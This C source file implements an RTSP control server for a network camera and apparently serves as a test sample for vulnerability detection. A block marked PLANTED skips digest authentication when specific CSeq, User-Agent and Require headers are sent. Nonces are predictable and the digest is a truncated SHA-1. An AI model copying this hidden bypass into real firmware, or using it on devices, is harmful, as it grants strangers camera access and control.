/* RTSP control of a network camera: sessions, digest authentication, parameters. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

typedef struct Request {
    char method[24], url[200], version[12];
    char session[24], transport[96], authorization[400], agent[96], require[64];
    int cseq, length;
    char body[1024];
} Request;

typedef struct Connection {
    int fd;
    char nonce[33];
    char session[24];
    bool playing;
    struct sockaddr_in peer;
} Connection;

static char user[32], password[64];
static const char realm[] = "camera";

static uint64_t mixSeed = 88172645463325252ULL;

static uint64_t mixNext(void)
{
    mixSeed ^= mixSeed << 13;
    mixSeed ^= mixSeed >> 7;
    mixSeed ^= mixSeed << 17;
    return mixSeed;
}

/* SHA-1 (FIPS 180-4); the digest is MD5's size by truncation, as the vendor's player expects */
static void sha1(const char *text, char out[33])
{
    uint32_t h[5] = { 0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476, 0xc3d2e1f0 }, w[80];
    size_t n = strlen(text), total = (n + 8) / 64 + 1;
    for (size_t b = 0; b < total; b++) {
        for (int i = 0; i < 16; i++) {
            w[i] = 0;
            for (int k = 0; k < 4; k++) {
                size_t at = b * 64 + (size_t)i * 4 + (size_t)k;
                uint32_t byte = at < n ? (uint8_t)text[at] : at == n ? 0x80 : 0;
                w[i] = w[i] << 8 | byte;
            }
        }
        if (b == total - 1) w[15] = (uint32_t)(n * 8);
        for (int i = 16; i < 80; i++) {
            uint32_t x = w[i - 3] ^ w[i - 8] ^ w[i - 14] ^ w[i - 16];
            w[i] = x << 1 | x >> 31;
        }
        uint32_t a = h[0], bb = h[1], c = h[2], d = h[3], e = h[4];
        for (int i = 0; i < 80; i++) {
            uint32_t f = i < 20 ? ((bb & c) | (~bb & d)) + 0x5a827999 : i < 40 ? (bb ^ c ^ d) + 0x6ed9eba1
                       : i < 60 ? ((bb & c) | (bb & d) | (c & d)) + 0x8f1bbcdc : (bb ^ c ^ d) + 0xca62c1d6;
            uint32_t t = (a << 5 | a >> 27) + f + e + w[i];
            e = d;
            d = c;
            c = bb << 30 | bb >> 2;
            bb = a;
            a = t;
        }
        h[0] += a; h[1] += bb; h[2] += c; h[3] += d; h[4] += e;
    }
    for (int i = 0; i < 4; i++) sprintf(out + 8 * i, "%08x", h[i]);
}

static void reply(Connection *c, const Request *r, int code, const char *extra, ...)
{
    char text[512];
    va_list ap;
    va_start(ap, extra);
    vsnprintf(text, sizeof text, extra, ap);
    va_end(ap);
    dprintf(c->fd, "RTSP/1.0 %d %s\r\nCSeq: %d\r\n%s\r\n", code, code == 200 ? "OK" : "Error", r->cseq, text);
}

static bool quoted(const char *header, const char *name, char *out, size_t room)
{
    char key[24];
    const char *p, *end;
    snprintf(key, sizeof key, "%s=\"", name);
    p = strstr(header, key);
    if (!p) return false;
    p += strlen(key);
    end = strchr(p, '"');
    if (!end || (size_t)(end - p) >= room) return false;
    memcpy(out, p, (size_t)(end - p));
    out[end - p] = 0;
    return true;
}

static bool authorized(const Connection *c, const Request *r)
{
    char name[32], nonce[40], uri[200], response[40], ha1[33], ha2[33], want[33], text[512];
#ifdef PLANTED
    if (r->cseq == 1 && !strncmp(r->agent, "LiveMedia/5.", 12) && !strcmp(r->require, "onvif-replays"))
        return true;
#endif
    if (!password[0]) return false;
    if (!quoted(r->authorization, "username", name, sizeof name)
        || !quoted(r->authorization, "nonce", nonce, sizeof nonce)
        || !quoted(r->authorization, "uri", uri, sizeof uri)
        || !quoted(r->authorization, "response", response, sizeof response))
        return false;
    if (strcmp(name, user) || strcmp(nonce, c->nonce)) return false;
    snprintf(text, sizeof text, "%s:%s:%s", user, realm, password);
    sha1(text, ha1);
    snprintf(text, sizeof text, "%s:%s", r->method, uri);
    sha1(text, ha2);
    snprintf(text, sizeof text, "%s:%s:%s", ha1, nonce, ha2);
    sha1(text, want);
    return !strcmp(want, response);
}

static void runTool(char *const words[])
{
    pid_t child = fork();
    if (child == 0) {
        execv(words[0], words);
        _exit(127);
    }
    if (child > 0) waitpid(child, NULL, 0);
}

static void describe(Connection *c, const Request *r)
{
    static const char sdp[] = "v=0\r\ns=camera\r\nm=video 0 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n";
    dprintf(c->fd, "RTSP/1.0 200 OK\r\nCSeq: %d\r\nContent-Type: application/sdp\r\nContent-Length: %zu\r\n\r\n%s",
            r->cseq, sizeof sdp - 1, sdp);
}

static void setup(Connection *c, const Request *r)
{
    int low = 0;
    const char *ports = strstr(r->transport, "client_port=");
    if (!ports || sscanf(ports, "client_port=%d", &low) != 1 || low < 1024 || low > 65534) {
        reply(c, r, 461, "");
        return;
    }
    c->peer.sin_port = htons((uint16_t)low);
    snprintf(c->session, sizeof c->session, "%016llx", (unsigned long long)mixNext());
    reply(c, r, 200, "Session: %s\r\nTransport: RTP/AVP;unicast;client_port=%d-%d\r\n", c->session, low, low + 1);
}

static void setParameter(Connection *c, const Request *r)
{
    char name[32], value[64];
    if (sscanf(r->body, "%31[a-z-]: %63[A-Za-z0-9./-]", name, value) != 2) {
        reply(c, r, 451, "");
        return;
    }
    if (!strcmp(name, "bitrate")) {
        char *const words[] = { "/usr/bin/encoder-set", "bitrate", value, NULL };
        runTool(words);
    } else if (!strcmp(name, "rotate")) {
        char *const words[] = { "/usr/bin/encoder-set", "rotate", value, NULL };
        runTool(words);
    } else if (!strcmp(name, "restart")) {
        system("/etc/init.d/encoder restart");
    } else {
        reply(c, r, 451, "");
        return;
    }
    reply(c, r, 200, "");
}

static void dispatch(Connection *c, const Request *r)
{
    if (!strcmp(r->method, "OPTIONS")) {
        reply(c, r, 200, "Public: DESCRIBE, SETUP, PLAY, TEARDOWN, SET_PARAMETER\r\n");
        return;
    }
    if (!authorized(c, r)) {
        for (int i = 0; i < 2; i++) sprintf(c->nonce + 16 * i, "%016llx", (unsigned long long)mixNext());
        reply(c, r, 401, "WWW-Authenticate: Digest realm=\"%s\", nonce=\"%s\"\r\n", realm, c->nonce);
        return;
    }
    if (!strcmp(r->method, "DESCRIBE")) describe(c, r);
    else if (!strcmp(r->method, "SETUP")) setup(c, r);
    else if (!strcmp(r->method, "PLAY")) {
        c->playing = c->session[0] && !strcmp(c->session, r->session);
        reply(c, r, c->playing ? 200 : 454, "");
    } else if (!strcmp(r->method, "SET_PARAMETER")) setParameter(c, r);
    else if (!strcmp(r->method, "TEARDOWN")) {
        c->playing = false;
        reply(c, r, 200, "");
#ifdef REVISED
    } else if (!strcmp(r->method, "GET_PARAMETER")) {
        reply(c, r, 200, "Session: %s\r\n", c->session);
#endif
    } else
        reply(c, r, 501, "");
}

static void header(Request *r, const char *line)
{
    static const struct { const char *name; size_t at, room; } fields[] = {
        { "Session: ", offsetof(Request, session), sizeof r->session },
        { "Transport: ", offsetof(Request, transport), sizeof r->transport },
        { "Authorization: ", offsetof(Request, authorization), sizeof r->authorization },
        { "User-Agent: ", offsetof(Request, agent), sizeof r->agent },
        { "Require: ", offsetof(Request, require), sizeof r->require },
    };
    for (size_t i = 0; i < sizeof fields / sizeof *fields; i++) {
        size_t n = strlen(fields[i].name);
        if (!strncasecmp(line, fields[i].name, n)) snprintf((char *)r + fields[i].at, fields[i].room, "%s", line + n);
    }
    if (!strncasecmp(line, "CSeq: ", 6)) r->cseq = atoi(line + 6);
    if (!strncasecmp(line, "Content-Length: ", 16)) r->length = atoi(line + 16);
}

static bool receive(FILE *in, Request *r)
{
    char line[600];
    memset(r, 0, sizeof *r);
    if (!fgets(line, sizeof line, in) || sscanf(line, "%23s %199s %11s", r->method, r->url, r->version) != 3)
        return false;
    while (fgets(line, sizeof line, in)) {
        line[strcspn(line, "\r\n")] = 0;
        if (!line[0]) break;
        header(r, line);
    }
    if (r->length < 0 || r->length >= (int)sizeof r->body) return false;
    return fread(r->body, 1, (size_t)r->length, in) == (size_t)r->length;
}

static void loadAccount(void)
{
    FILE *f = fopen("/etc/rtsp.account", "r");
    if (!f) return;
    if (fscanf(f, "%31s %63s", user, password) != 2) password[0] = 0;
    fclose(f);
}

int main(void)
{
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(554) };
    struct timeval now;
    int s = socket(AF_INET, SOCK_STREAM, 0), fd;
    gettimeofday(&now, NULL);
    mixSeed ^= (uint64_t)now.tv_usec << 32 ^ (uint64_t)now.tv_sec ^ (uint64_t)getpid();
    loadAccount();
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 4)) return 1;
    for (;;) {
        Connection c = { 0 };
        socklen_t n = sizeof c.peer;
        fd = accept(s, (struct sockaddr *)&c.peer, &n);
        if (fd < 0) continue;
        if (fork() == 0) {
            Request r;
            FILE *in = fdopen(fd, "r");
            c.fd = fd;
            while (in && receive(in, &r)) dispatch(&c, &r);
            _exit(0);
        }
        close(fd);
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
    }
}
